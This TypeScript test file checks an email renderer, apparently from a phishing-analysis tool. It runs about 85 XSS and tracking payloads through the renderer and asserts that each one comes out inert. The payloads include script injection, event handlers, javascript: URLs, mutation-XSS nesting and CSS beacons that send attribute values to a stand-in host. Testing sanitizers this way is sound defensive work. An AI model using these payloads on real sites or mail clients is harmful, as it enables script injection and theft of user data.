import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { parseBytes } from '../parse/index.ts'
import { renderMail } from './index.ts'

const mailOf = (html: string) => parseBytes(Buffer.from(`From: a@example.com\nContent-Type: text/html; charset=utf-8\n\n${html}`))

const HEAD = { from: 'From', replyTo: 'Answers to', to: 'To', date: 'Date', subject: 'Subject', attached: 'Attached' }
const THERE = {
  words: { hidden: 'hidden', sendsTo: 'sends to', pictureFrom: 'picture from', counter: 'counts readers', ownPicture: 'its own picture' },
  safe: (text: string, charsMax: number) => text.slice(0, charsMax).replaceAll('.', '[.]').replace('http', 'hxxp'),
}

/** Tricks that run, load, lead away or cover the page. Invented after the usual lists; every one must come out inert. */
const TRICKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=//evil.example/p.gif>',
  '<img srcset="https://evil.example/a 1x">',
  '<body onload=alert(1)>',
  '<body background=https://evil.example/b.png>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src=https://evil.example></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=https://evil.example></object>',
  '<embed src=https://evil.example>',
  '<applet code=x></applet>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href=https://evil.example ping=https://evil.example/p target=_top>x</a>',
  '<area href=https://evil.example>',
  '<form action=https://evil.example><input name=p><button formaction=https://evil.example>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=https://evil.example/i.png>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=https://evil.example/v autoplay></video>',
  '<audio src=https://evil.example/a></audio>',
  '<video poster=https://evil.example/p.png></video>',
  '<table background="https://evil.example/t.png"><tr><td>x</table>',
  '<div style="background:url(https://evil.example/d.png)">x</div>',
  '<div style="background-image:url(//evil.example)">x</div>',
  '<div style="background:u\\72l(https://evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:var(--x,url(https://evil.example))">x</div>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<style>p{content:url(https://evil.example)}</style>',
  '<style>*{background:image-set("https://evil.example/i" 1x)}</style>',
  '<style></style><script>alert(1)</script>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<font face="&quot; onmouseover=alert(1) x=&quot;">x</font>',
  '<img alt="&quot;><script>alert(1)</script>" src=x>',
  '<td class="&quot; onclick=alert(1)">x',
  '<portal src=https://evil.example></portal>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<style>.a{color:red;}</style ><img src=x onerror=alert(1)>',
  '<style>p{font-family:"</style><script>alert(1)</script>"}</style>',
  '<style>.a{font-family:"}.b{background:url(https://evil.example)}"}</style>',
  '<style>@media screen{p{background:url(https://evil.example)}}</style>',
  '<div style="font-family:\';background:url(https://evil.example)">x</div>',
  '<div style="list-style:url(https://evil.example)">x</div>',
  '<div style="cursor:url(https://evil.example),auto">x</div>',
  '<div style="color:red;/**/background/**/:/**/url(https://evil.example)">x</div>',
  '<div style="background:&#117;rl(https://evil.example)">x</div>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
  '<input type="image" src="https://evil.example/i.png" onerror=alert(1)>',
  '<frameset onload=alert(1)><frame src=https://evil.example></frameset>',
  '<keygen autofocus onfocus=alert(1)>',
  '<bgsound src=https://evil.example/s>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<custom-tag onclick=alert(1)>x</custom-tag>',
]

const UNSAFE_STYLE = /url|@import|expression|binding|behavior|image-set|position:/i

/** Everything in a drawn mail that could act, found by reading it again. */
function actsIn(drawn: string): string[] {
  const acts: string[] = []
  const stack: DefaultTreeAdapterTypes.ChildNode[] = [...(parse(drawn).childNodes as DefaultTreeAdapterTypes.ChildNode[])]
  for (let node = stack.pop(); node; node = stack.pop()) {
    if (!('tagName' in node)) continue
    if (/^(script|iframe|object|embed|applet|base|link|svg|math|video|audio|portal|noscript|template|frame)$/.test(node.tagName))
      acts.push(node.tagName)
    if (node.tagName === 'meta' && node.attrs.some(({ name }) => name === 'http-equiv')) acts.push('meta')
    for (const { name, value } of node.attrs) {
      if (
        name.startsWith('on') ||
        /^(href|action|formaction|background|ping|srcset|poster|srcdoc|data|xlink:href|target|autofocus)$/.test(name)
      )
        acts.push(`${node.tagName} ${name}`)
      if (name === 'src' && !/^data:image\/(png|jpe?g|gif|webp);base64,/.test(value)) acts.push(`src ${value}`)
      if (name === 'style' && UNSAFE_STYLE.test(value)) acts.push(`style ${value}`)
    }
    if (node.tagName === 'style')
      for (const child of node.childNodes)
        if (child.nodeName === '#text' && UNSAFE_STYLE.test((child as DefaultTreeAdapterTypes.TextNode).value)) acts.push('style')
    stack.push(...node.childNodes)
  }
  return acts
}

for (const trick of TRICKS) {
  test(`is drawn without acting: ${trick.slice(0, 60)}`, () => {
    for (const how of [{}, { there: THERE, head: HEAD }])
      assert.deepEqual(actsIn(renderMail(mailOf(`${trick}<p>end</p>`), [], undefined, how)), [])
  })
}

test('marks evidence where it stands, once numbered', () => {
  const html = '<p>Dear <b>customer</b>, log in now</p>'
  const start = html.indexOf('customer')
  const drawn = renderMail(mailOf(html), [{ at: { part: '1', start, end: html.indexOf(' now') }, number: 3 }])
  assert.match(drawn, /<mark class="telltale" id="telltale-3" data-number="3">customer<\/mark>/)
  assert.match(drawn, /<mark class="telltale" data-number="3">, log in<\/mark> now/)
})

test('draws plain text as it is', () => {
  const message = parseBytes(Buffer.from('From: a@example.com\n\n<b>not bold</b>\n'))
  assert.match(renderMail(message, []), /<pre class="tt-plain">&lt;b&gt;not bold&lt;\/b&gt;/)
})

const at = (html: string, words: string) => ({ part: '1', start: html.indexOf(words), end: html.indexOf(words) + words.length })

test('marks exactly beside entities', () => {
  const html = '<p>Fees &amp; costs of 3&euro; now</p>'
  assert.match(
    renderMail(mailOf(html), [{ at: at(html, 'costs'), number: 1 }]),
    /Fees &amp; <mark [^>]*data-number="1">costs<\/mark> of 3€ now/,
  )
})

test('a telltale without words of its own shows its number', () => {
  for (const html of [
    '<form action=x><input></form>',
    '<a href=x></a>',
    '<input name=pw>',
    '<table><tr><td background=x></td></tr></table>',
  ])
    assert.match(renderMail(mailOf(html), [{ at: { part: '1', start: 0, end: html.length }, number: 4 }]), /id="telltale-4"/)
})

test('two telltales on the same words both show their number', () => {
  const html = '<p>log in</p>'
  const drawn = renderMail(mailOf(html), [
    { at: at(html, 'log in'), number: 1 },
    { at: at(html, 'log'), number: 2 },
  ])
  assert.match(drawn, /id="telltale-1"/)
  assert.match(drawn, /id="telltale-2"/)
})

test('marks a picture as a whole', () => {
  const html = '<img src="https://a.example/x.png" alt="Bank">'
  assert.match(
    renderMail(mailOf(html), [{ at: at(html, html), number: 1 }]),
    /<mark [^>]*id="telltale-1"[^>]*><span class="tt-picture">Bank<\/span><\/mark>/,
  )
})

test('a mail cannot draw marks of its own, nor hide ours', () => {
  const drawn = renderMail(
    mailOf(
      '<style>mark,.telltale,#telltale-1{color:#fff!important}.a{color:red!important}</style><mark class="telltale a" id="telltale-1" data-number="1">x</mark>',
    ),
    [],
  )
  assert.doesNotMatch(drawn.slice(drawn.indexOf('<body>')), /<mark|id=|class="telltale|\.telltale|#telltale|important/)
  assert.match(drawn, /\.m-a\{color:red\}/)
})

test('hidden stays hidden, however it was hidden', () => {
  for (const open of [
    '<div hidden>',
    '<div style="position:absolute;left:-9999px">',
    '<style>.x{clip-path:inset(50%)}</style><div class=x>',
  ])
    assert.match(renderMail(mailOf(`${open}secret</div>`), []), /<div[^>]*style="display:none"[^>]*>secret/)
})

test('a link leads nowhere and says where it would have led', () => {
  const drawn = renderMail(mailOf('<a href="https://www.google.com/url?q=https://a.example/x">Go</a>'), [])
  assert.match(drawn, /<a title="a.example">Go<\/a>/)
})

test("the mail's own small pictures are shown, all others outlined", () => {
  const imageOf = (cid: string) =>
    cid === 'logo@example.com'
      ? { type: 'image/png', bytes: Buffer.from('png') }
      : cid === 'svg'
        ? { type: 'image/svg+xml', bytes: Buffer.from('<svg/>') }
        : null
  const drawn = (html: string) => renderMail(mailOf(html), [], imageOf)
  assert.match(
    drawn('<img src="cid:logo%40example.com" alt=Logo width=40>'),
    /<img src="data:image\/png;base64,cG5n" alt="Logo" width="40">/,
  )
  for (const src of ['cid:svg', 'cid:none', 'cid:%', 'https://a.example/x.png', 'data:image/svg+xml,x'])
    assert.match(drawn(`<img src="${src}" alt="A&quot;B">`), /<span class="tt-picture">A&quot;B<\/span>/)
  assert.doesNotMatch(drawn('<p>x</p><img src="https://a.example/x.gif" width=1 height=1>'), /<span class="tt-picture"/)
})

test('a mail of nothing but nesting is drawn, and every tag is closed', () => {
  const drawn = renderMail(mailOf('<div>'.repeat(150_000)), [])
  assert.equal(drawn.split('<div>').length, drawn.split('</div>').length)
})
